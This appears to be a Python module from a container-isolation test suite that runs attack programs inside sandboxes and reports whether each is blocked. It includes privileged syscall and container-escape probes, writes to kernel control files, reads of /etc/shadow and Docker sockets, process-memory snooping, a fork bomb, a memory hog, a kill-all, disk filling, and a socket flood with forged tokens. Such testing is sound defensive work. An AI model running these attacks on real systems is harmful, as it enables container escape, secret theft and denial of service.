"""Attacks as programs that need only Python's standard library. They run in containers and print
their results as JSON.

Each result is a name and a word or two: the name of an error means a blocked attack, `GOT ...` a
breach.
"""

import json
from typing import Any

_ZOO = r"""
import ctypes, errno, json, os, socket, struct, sys
told = json.loads(os.environ["TOLD"])
libc = ctypes.CDLL(None, use_errno=True)
out = {}

def attempt(name):
    def run(f):
        try:
            said = f()
        except OSError as e:
            said = type(e).__name__ if isinstance(e, (TimeoutError, socket.gaierror)) else errno.errorcode.get(e.errno, str(e))
        except Exception as e:
            said = repr(e)
        out[name] = "GOT it" if said is None else said
    return run

def call(name, *a):
    number = {"mount": 165, "unshare": 272, "ptrace": 101, "process_vm_readv": 310, "keyctl": 250, "add_key": 248, "bpf": 321, "swapon": 167,
              "perf_event_open": 298, "init_module": 175, "kexec_load": 246, "reboot": 169, "sethostname": 170, "settimeofday": 164,
              "iopl": 172, "open_by_handle_at": 304, "userfaultfd": 323, "chroot": 161, "pivot_root": 155, "setns": 308, "syslog": 103,
              "pidfd_open": 434, "pidfd_getfd": 438, "clone3": 435, "name_to_handle_at": 303, "acct": 163, "mknod": 133, "quotactl": 179}[name]
    got = libc.syscall(number, *a)
    if got < 0:
        raise OSError(ctypes.get_errno(), name)
    return got

# ---- the kernel's doors
p = ctypes.c_char_p
@attempt("mount tmpfs")
def _(): call("mount", p(b"none"), p(b"/tmp"), p(b"tmpfs"), 0, None)
@attempt("remount root")
def _(): call("mount", None, p(b"/"), None, 32, None)
@attempt("mount proc")
def _(): call("mount", p(b"proc"), p(b"/tmp"), p(b"proc"), 0, None)
for flag, word in ((0x10000000, "user"), (0x00020000, "mount"), (0x40000000, "net"), (0x20000000, "pid"), (0x10020000, "user+mount")):
    @attempt(f"unshare {word}")
    def _(): call("unshare", flag)
@attempt("setns to process 1")
def _(): call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
@attempt("chroot")
def _(): call("chroot", p(b"/tmp"))
@attempt("pivot_root")
def _(): call("pivot_root", p(b"/tmp"), p(b"/tmp"))
for name, args in {"keyctl": (0, -3, 1), "add_key": (p(b"user"), p(b"x"), p(b"x"), 1, -2), "bpf": (5, None, 0), "swapon": (p(b"/tmp/x"), 0),
                   "perf_event_open": (p(b"\0" * 128), 0, -1, -1, 0), "init_module": (p(b""), 0, p(b"")), "kexec_load": (0, 0, None, 0),
                   "reboot": (0xfee1dead - 2**32, 672274793, 0x89abcdef - 2**32, None), "sethostname": (p(b"mine"), 4),
                   "settimeofday": (struct.pack("qq", 1, 1), None), "iopl": (3,), "open_by_handle_at": (0, p(b"\0" * 32), 0),
                   "syslog": (3, ctypes.create_string_buffer(64), 64), "acct": (None,), "mknod": (p(b"/tmp/sda"), 0o60666, 0x800),
                   "quotactl": (0, None, 0, None)}.items():
    @attempt(name)
    def _(): call(name, *args)
for name, args in {"raw socket": (socket.AF_INET, socket.SOCK_RAW, 1), "raw6": (socket.AF_INET6, socket.SOCK_RAW, 58), "packet": (17, socket.SOCK_RAW, 768)}.items():
    @attempt(name)
    def _(): socket.socket(*args)
@attempt("netlink up")
def _():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.bind((0, 0))
    s.send(struct.pack("=IHHIIBBHiII", 32, 16, 5, 1, 0, 0, 0, 0, 1, 0, 0xffffffff))  # RTM_NEWLINK: lo down
    reply = s.recv(4096)
    code = -struct.unpack_from("=i", reply, 16)[0]
    if code:
        raise OSError(code, "netlink")
@attempt("setuid 0")
def _(): os.setuid(0)
@attempt("setgid 0")
def _(): os.setgid(0)
@attempt("chown")
def _():
    open("/tmp/mine", "w").close()
    os.chown("/tmp/mine", 0, 0)
@attempt("negative nice")
def _(): os.nice(-5)
@attempt("raise nofile")
def _():
    import resource
    resource.setrlimit(resource.RLIMIT_NOFILE, (2**20, 2**20))
@attempt("less likely a victim than at the start")
def _():
    with open("/proc/self/oom_score_adj", "w") as f: f.write("-1000")

# ---- writing where nobody may
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory",
             "/proc/sys/net/ipv4/ip_forward", "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper", "/sys/kernel/mm/ksm/run",
             "/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory/release_agent",
             "/sys/fs/cgroup/pids/release_agent", "/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs",
             "/proc/irq/default_smp_affinity", "/proc/latency_stats", "/etc/passwd", "/etc/ld.so.preload", "/bin/zoo", "/opt/jobscribe/start",
             "/run/jobscribe/agents.json", "/run/jobscribe/zoo", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/.dockerenv"):
    @attempt(f"write {path}")
    def _():
        with open(path, "a") as f: f.write("x")
for path in ("/proc/kcore", "/proc/keys", "/proc/timer_list", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/sys/firmware/efi", "/etc/shadow", "/proc/kpagecount",
             "/sys/kernel/security/lockdown", "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
    @attempt(f"read {path}")
    def _():
        if os.path.isdir(path):
            return "empty" if not os.listdir(path) else None
        with open(path, "rb") as f:
            return "empty" if not f.read(10) else None
@attempt("replace the socket")
def _(): os.unlink("/run/jobscribe/link.sock")
@attempt("rename the address")
def _(): os.rename("/run/jobscribe/agents.json", "/run/jobscribe/old")

# ---- programs that would make somebody else of us
for path in told.get("setuid", []):
    @attempt(f"setuid program {path}")
    def _():
        import subprocess
        done = subprocess.run([path, "-c", "import os; print(os.geteuid(), os.getegid())"], capture_output=True, text=True)
        if done.returncode:
            return "did not run: " + done.stderr[-100:]
        return "as oneself" if done.stdout.split() == [str(os.getuid()), str(os.getgid())] else "GOT " + done.stdout

# ---- other processes
def title(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        return f.read().replace(b"\0", b" ").decode(errors="replace").strip()
class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
for pid in [int(x) for x in os.listdir("/proc") if x.isdigit()]:
    who = title(pid)
    part = "keeper" if who.startswith("jobscribe keeper") else "agent" if who.startswith("jobscribe agent") else "worker" if who.startswith("jobscribe worker") else None
    if part is None:
        continue
    for name in ("mem", "environ", "maps", "auxv", "root", "cwd", "exe", "io", "stack", "personality"):
        @attempt(f"{part} {name}")
        def _():
            if name in ("root", "cwd", "exe"):
                return os.readlink(f"/proc/{pid}/{name}") and None
            with open(f"/proc/{pid}/{name}", "rb") as f:
                if name == "mem":
                    return
                return "empty" if not f.read(64) else None
    for name in ("fd", "map_files", "fdinfo", "task/%d/fd" % pid):
        @attempt(f"{part} {name.split('/')[-1] if '/' not in name else 'task fd'}")
        def _(): os.listdir(f"/proc/{pid}/{name}")
    @attempt(f"{part} oom_score_adj")
    def _():
        with open(f"/proc/{pid}/oom_score_adj", "w") as f: f.write("1000")
    @attempt(f"{part} ptrace")
    def _(): call("ptrace", 16, pid, 0, 0)
    @attempt(f"{part} seize")
    def _(): call("ptrace", 0x4206, pid, 0, 0)
    @attempt(f"{part} process_vm_readv")
    def _():
        buffer = ctypes.create_string_buffer(64)
        near, far = Vec(ctypes.addressof(buffer), 64), Vec(0x400000, 64)
        call("process_vm_readv", pid, ctypes.byref(near), 1, ctypes.byref(far), 1, 0)
    @attempt(f"{part} a descriptor of it")
    def _(): call("pidfd_getfd", call("pidfd_open", pid, 0), 3, 0)

# ---- other people's things
for path in told.get("paths", []):
    @attempt(f"path {path}")
    def _():
        os.stat(path)
    @attempt(f"link to {path}")
    def _():
        os.link(path, told["own"] + "/zoo-link")
out["users"] = sorted(os.listdir(told["users"]))
out["agents"] = sorted(os.listdir(told["agents"]))
mounts = []
for line in open("/proc/self/mountinfo"):
    left, right = line.split(" - ")
    kind, point, options = right.split()[0], left.split()[4], left.split()[5].split(",")
    if kind not in ("proc", "sysfs", "cgroup", "cgroup2", "devpts", "mqueue", "overlay") and not point.startswith(("/proc/", "/sys/", "/dev/")):
        mounts.append([point, kind, options[0]])
out["mounts"] = sorted(mounts)
out["devices"] = sorted(n for n in os.listdir("/dev") if n not in ("fd", "stdin", "stdout", "stderr", "pts", "ptmx", "shm", "mqueue", "core"))
out["environment"] = dict(os.environ)
out["status"] = {k: v.strip() for k, _, v in (l.partition(":") for l in open("/proc/self/status")) if k in ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")}
out["interfaces"] = sorted(os.listdir("/sys/class/net"))
out["me"] = [os.getuid(), os.getgid(), os.getpid()]

# ---- addresses
def reach(address):
    family, where = (socket.AF_INET6, tuple(address)) if ":" in address[0] else (socket.AF_INET, tuple(address))
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(where)
        return "GOT a connection"
import threading
socket.setdefaulttimeout(2)
def one(address):
    @attempt(f"connect {address[0]} {address[1]}")
    def _(): return reach(address)
threads = [threading.Thread(target=one, args=(a,)) for a in told.get("addresses", [])]
[t.start() for t in threads]; [t.join() for t in threads]
@attempt("abstract sockets of others")
def _():
    found = [l.split()[-1] for l in open("/proc/net/unix") if l.split()[-1].startswith("@")]
    return "GOT " + " ".join(found) if found else "none"
print(json.dumps(out))
"""


#: Forks processes up to the limit; all of them stay.
FORKS = """
import os, time
print("forking", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
"""
#: Takes memory until it is killed.
MEMORY = "x = []\nwhile True: x.append(bytearray(1 << 20))"
#: Sends SIGKILL to every process that this user can reach.
KILLS = "import os, time\nif os.fork() == 0:\n    os.kill(-1, 9)\ntime.sleep(600)"
#: Signals process 1 with a signal that it handles.
TELLS_THE_KEEPER = (
    "import os, signal, time\nsignal.signal(15, signal.SIG_IGN)\nos.kill(1, 15)\ntime.sleep(600)"
)
#: Stops the agent, and the keeper as far as possible.
STOPS = """
import os, time
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        if f.read().startswith((b"jobscribe agent", b"jobscribe keeper")):
            os.kill(int(pid), 19)
print("stopped", flush=True)
time.sleep(600)
"""
#: Writes files until all bounded places are full; prints the written MiB and the error.
FILLS = """
import json, os, sys
said = {}
for place in sys.argv[1:]:
    size, name = 0, place + "/filling"
    try:
        with open(name, "wb", buffering=0) as f:
            while size < 600:
                size += f.write(bytes(1 << 20)) / (1 << 20)
        why = "no end"
    except OSError as e:
        why = os.strerror(e.errno)
    said[place] = [round(size), why]
    try:
        os.unlink(name)
    except OSError:
        pass
print(json.dumps(said))
"""
#: Floods the relay's socket: too many connections, garbage, half requests, silence; then handshakes
#: with others' keys and tokens.
LINK = """
import collections, json, os, socket, sys, time
keys = sys.argv[1:]
def dial(data=b""):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(5)
    s.connect("/run/jobscribe/link.sock")
    s.sendall(data)
    return s
def word(s):
    try:
        data = s.recv(65536)
        return data.split(b"\\r\\n")[0].decode(errors="replace") if data else "closed"
    except OSError as e:
        return type(e).__name__
said = collections.Counter()
held = []
for n in range(300):
    try:
        held.append(dial((b"", b"\\0" * 4096, b"GET /agent HTTP/1.1\\r\\nHost: ", os.urandom(2048))[n % 4]))
    except OSError as e:
        said[type(e).__name__] += 1
time.sleep(0.5)
for s in held:
    s.setblocking(False)
    said["held" if word(s) == "BlockingIOError" else "ended"] += 1
for s in held:
    s.close()
time.sleep(3.5)  # some of its share of dials is back
answers = {}
for key in keys:
    for token in ("x" * 32, ""):
        request = ["GET /agent HTTP/1.1", "Host: x", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
                   "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "X-Jobscribe-Agent: " + key, "Authorization: Bearer " + token, "", ""]
        answers[key + " " + token] = word(dial("\\r\\n".join(request).encode()))
for path in ("/agent", "/api/run-status", "/agent/../metrics"):
    answers[path] = word(dial(f"GET {path} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode()))
print(json.dumps([said, answers]))
"""


def python(text: str, *args: str) -> list[str]:
    return ["python3", "-c", text, *args]


def zoo(**told: Any) -> list[str]:
    """Return the command that tries every attack. told: `own`, `users`, `agents` (folders), `paths`
    (of others), `addresses` [host, port], `setuid`.
    """
    return ["env", "TOLD=" + json.dumps(told), *python(_ZOO)]
